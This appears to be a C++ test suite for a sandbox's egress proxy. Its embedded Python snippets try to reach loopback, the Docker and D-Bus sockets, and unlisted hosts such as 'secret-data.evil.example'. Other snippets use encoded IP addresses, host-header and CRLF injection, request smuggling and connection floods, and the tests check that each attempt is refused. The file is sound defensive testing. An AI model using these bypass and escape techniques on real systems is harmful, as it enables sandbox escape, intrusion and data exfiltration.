// Ways out that do not lead through the proxy, and ways through it that nobody has listed. What is dialled is
// a listener of the test's own; names are resolved by the test, which knows what was asked.

#include <arpa/inet.h>
#include <ifaddrs.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>

#include <fmt/format.h>

#include "tests/live/attacks/fixture.hpp"
#include "tests/live/attacks/origin.hpp"

namespace ratchet::attacks {
namespace {

using testing::Contains;
using testing::ElementsAre;
using testing::HasSubstr;
using testing::IsEmpty;

/// An address of this machine beside loopback; empty, if it has none.
std::string address_of_machine() {
  ifaddrs* all = nullptr;
  if (::getifaddrs(&all) != 0) return {};
  std::string out;
  for (const auto* each = all; each != nullptr; each = each->ifa_next) {
    if (each->ifa_addr == nullptr || each->ifa_addr->sa_family != AF_INET) continue;
    char text[INET_ADDRSTRLEN] = {};
    ::inet_ntop(AF_INET, &reinterpret_cast<const sockaddr_in*>(each->ifa_addr)->sin_addr, text, sizeof text);
    if (!std::string_view(text).starts_with("127.")) out = text;
  }
  ::freeifaddrs(all);
  return out;
}

class Network : public Attack {
 protected:
  void SetUp() override {
    options_.dial.private_hosts = {listed(), fmt::format("big.example:{}", origin_.port)};
    options_.dial.resolver = [this](const std::string& host, std::uint16_t port) {
      const std::lock_guard lock(mutex_);
      asked_.push_back(host);
      return sandbox::resolve("127.0.0.1", port);
    };
    Attack::SetUp();
  }

  std::string listed() const { return fmt::format("api.example:{}", origin_.port); }

  SandboxId with_proxy(std::vector<std::string> more = {}) {
    more.push_back(listed());
    return leased({.network_allow = more});
  }

  /// `ask(bytes)`: what the proxy answers to a request, whole; `status(name, bytes)` prints the number in it,
  /// or `closed`.
  SandboxEnd proxied(SandboxId id, const std::string& program) {
    return python(id,
                  fmt::format(R"(
import socket
listed, port = '{}', {}
def ask(request):
  s = socket.create_connection(('127.0.0.1', 3128))
  s.sendall(request.encode('latin-1'))
  got = b''
  try:
    while part := s.recv(65536): got += part
  except OSError: pass
  return got.decode('latin-1')
def status(name, request): print(name, (ask(request).split(' ') + ['closed'])[1] if request else '')
)",
                              listed(),
                              origin_.port) +
                      program);
  }

  std::vector<std::string> asked() {
    const std::lock_guard lock(mutex_);
    return asked_;
  }

  Origin origin_;
  std::mutex mutex_;
  std::vector<std::string> asked_;
};

RATCHET_ATTACKS(Network);

TEST_P(Network, NothingIsReachedDirectly) {
  const auto machine = address_of_machine();
  Origin other(machine.empty() ? "127.0.0.1" : machine);
  const std::string abstract = fmt::format("ratchet-attack-{}", ::getpid());
  Fd local(::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0));
  sockaddr_un address{};
  address.sun_family = AF_UNIX;
  abstract.copy(address.sun_path + 1, abstract.size());
  ASSERT_EQ(::bind(local.get(),
                   reinterpret_cast<sockaddr*>(&address),
                   static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + abstract.size())),
            0);
  ASSERT_EQ(::listen(local.get(), 4), 0);
  const auto end = attacks(with_proxy(),
                           fmt::format(R"(
attack('loopback', lambda: socket.create_connection(('127.0.0.1', {0})))
attack('loopback2', lambda: socket.create_connection(('127.7.7.7', {0})))
attack('zero', lambda: socket.create_connection(('0.0.0.0', {0})))
attack('loopback6', lambda: socket.create_connection(('::1', {0})))
attack('mapped', lambda: socket.create_connection(('::ffff:127.0.0.1', {0})))
attack('machine', lambda: socket.create_connection(('{1}', {2})))
attack('datagram', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{1}', {2})))
attack('abstract', lambda: socket.socket(socket.AF_UNIX).connect('\0{3}'))
attack('docker', lambda: socket.socket(socket.AF_UNIX).connect('/run/docker.sock'))
attack('x11', lambda: socket.socket(socket.AF_UNIX).connect('\0/tmp/.X11-unix/X0'))
attack('dbus', lambda: socket.socket(socket.AF_UNIX).connect('/run/dbus/system_bus_socket'))
def interface():
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
  fcntl.ioctl(s, 0x8916, struct.pack('16sH2s4s8s', b'lo', 2, b'', socket.inet_aton('10.0.0.1'), b''))
attack('new-address', interface)
attack('names', lambda: socket.getaddrinfo('a-secret.example.com', 80))
)",
                                       origin_.port,
                                       machine.empty() ? "192.0.2.1" : machine,
                                       other.port,
                                       abstract));
  const char* none = "ECONNREFUSED|ENETUNREACH|EHOSTUNREACH|ENOENT|EADDRNOTAVAIL";
  Outcomes expected = {{"new-address", "EPERM|EACCES|ENOTTY"}};
  for (const char* name : {"loopback",
                           "loopback2",
                           "zero",
                           "loopback6",
                           "mapped",
                           "machine",
                           "datagram",
                           "abstract",
                           "docker",
                           "x11",
                           "dbus"})
    expected[name] = none;
  std::string out = end.out;
  // Its errors are numbers of their own: -2 and -3, no such name, or none for now.
  const auto names = out.find("names ");
  ASSERT_NE(names, out.npos) << end.err;
  EXPECT_NE(out.substr(names), "names DONE\n");
  auto shown = end;
  shown.out = out.substr(0, names);
  expect_outcomes(shown, expected);
  EXPECT_EQ(origin_.stop(), 0);
  EXPECT_EQ(other.stop(), 0);
  EXPECT_THAT(asked(), IsEmpty());
}

TEST_P(Network, WithoutAListThereIsNoProxy) {
  const auto end =
      attacks(leased(), "attack('proxy', lambda: socket.create_connection(('127.0.0.1', 3128)))\n");
  expect_outcomes(end, {{"proxy", "ECONNREFUSED"}});
  EXPECT_EQ(shell(leased({.run = 2}), "env | grep -ic proxy").out, "0\n");
}

TEST_P(Network, TheProxyLeadsWhereItIsToAndNowhereElse) {
  const auto end = proxied(with_proxy({fmt::format("rebound.example:{}", origin_.port)}), R"(
get = 'GET http://%s/ HTTP/1.1\r\n\r\n'
connect = 'CONNECT %s HTTP/1.1\r\n\r\n'
status('listed', get % listed)
status('upper-case', get % listed.upper())
status('dot', get % listed.replace('example', 'example.'))
status('unlisted', get % 'secret-data.evil.example')
status('unlisted-tunnel', connect % 'secret-data.evil.example:443')
status('port', get % ('api.example:%d' % (port % 65535 + 1)))
status('longer', get % ('api.example.evil.example:%d' % port))
status('prefix', get % ('evil-' + listed))
status('address', connect % ('127.0.0.1:%d' % port))
status('mapped', connect % ('[::ffff:127.0.0.1]:%d' % port))
status('hex', connect % ('0x7f000001:%d' % port))
status('decimal', connect % ('2130706433:%d' % port))
status('octal', connect % ('0177.0.0.1:%d' % port))
status('short', connect % ('127.1:%d' % port))
status('localhost', connect % ('localhost:%d' % port))
status('user', get % ('api.example@evil.example:%d' % port))
status('user2', get % ('evil.example@' + listed))
status('backslash', get % ('evil.example\\@' + listed))
status('zero-byte', get % ('api.example\0.evil.example:%d' % port))
status('line-end', connect % (listed + '\r\nHost: evil.example'))
status('host', 'GET http://%s/ HTTP/1.1\r\nHost: evil.example\r\n\r\n' % listed)
status('scheme', 'GET https://%s/ HTTP/1.1\r\n\r\n' % listed)
status('path-only', 'GET / HTTP/1.1\r\nHost: %s\r\n\r\n' % listed)
status('both-lengths', 'POST http://%s/ HTTP/1.1\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\n' % listed)
status('rebound', get % ('rebound.example:%d' % port))
status('head', 'GET http://%s/ HTTP/1.1\r\nX: %s\r\n\r\n' % (listed, 'x' * 65536))
)");
  expect_outcomes(end,
                  {{"listed", "200"},
                   {"upper-case", "200"},
                   {"dot", "200"},
                   {"unlisted", "403"},
                   {"unlisted-tunnel", "403"},
                   {"port", "403"},
                   {"longer", "403"},
                   {"prefix", "403"},
                   {"address", "403"},
                   {"mapped", "403|400"},
                   {"hex", "403|400"},
                   {"decimal", "403|400"},
                   {"octal", "403|400"},
                   {"short", "403|400"},
                   {"localhost", "403"},
                   {"user", "400"},
                   {"user2", "400"},
                   {"backslash", "400"},
                   {"zero-byte", "400"},
                   {"line-end", "400"},
                   {"host", "400"},
                   {"scheme", "400"},
                   {"path-only", "400"},
                   {"both-lengths", "400"},
                   {"rebound", "403"},
                   {"head", "431"}});
  EXPECT_EQ(origin_.stop(), 3);
  EXPECT_THAT(asked(), ElementsAre("api.example", "api.example", "api.example", "rebound.example"))
      << "each listed name once a connection, and no other";
  EXPECT_GE(end.evidence.refused_connections, 9u);
  EXPECT_THAT(end.evidence.refused_hosts, Contains("secret-data.evil.example:443"));
}

TEST_P(Network, AConnectionIsForOneRequest) {
  const auto end = proxied(with_proxy(), R"(
print(ask('GET http://%s/ HTTP/1.1\r\n\r\nGET http://secret.evil.example/ HTTP/1.1\r\n\r\n' % listed).count('HTTP/1.1'))
print(ask('POST http://%s/ HTTP/1.1\r\nContent-Length: 2\r\n\r\nabCONNECT evil.example:443 HTTP/1.1\r\n\r\n' % listed).count('HTTP/1.1'))
)");
  EXPECT_EQ(end.out, "1\n1\n") << end.err;
  EXPECT_EQ(origin_.stop(), 2);
  EXPECT_THAT(asked(), ElementsAre("api.example", "api.example"));
}

TEST_P(Network, AFloodDoesNotStopWhatIsSaidElsewhere) {
  const auto id = with_proxy();
  const auto end = proxied(id, R"(
import os
held = []
for i in range(300):
  s = socket.socket()
  s.setblocking(False)
  s.connect_ex(('127.0.0.1', 3128))
  held.append(s)
for s in held[:60]:
  try: s.send(b'GET http://')
  except OSError: pass
os.write(1, b'x' * 300000)
)");
  EXPECT_EQ(end.kind, Kind::exited) << end.why << end.err;
  EXPECT_EQ(end.out, std::string(300'000, 'x'));
  EXPECT_EQ(proxied(id, "status('next', 'GET http://%s/ HTTP/1.1\\r\\n\\r\\n' % listed)").out, "next 200\n")
      << "connections end with their command";
}

TEST_P(Network, OneThatNeverReadsHoldsUpNobody) {
  const auto id = with_proxy();
  const auto end = proxied(id, R"(
import os
deaf = socket.create_connection(('127.0.0.1', 3128))
deaf.sendall(b'GET http://%s/flood HTTP/1.1\r\n\r\n' % listed.encode())
assert deaf.recv(12) == b'HTTP/1.1 200'
os.write(1, b'x' * 300000)
)");
  EXPECT_EQ(end.out, std::string(300'000, 'x')) << end.err << end.why;
  expect_usable(id);
}

}  // namespace
}  // namespace ratchet::attacks
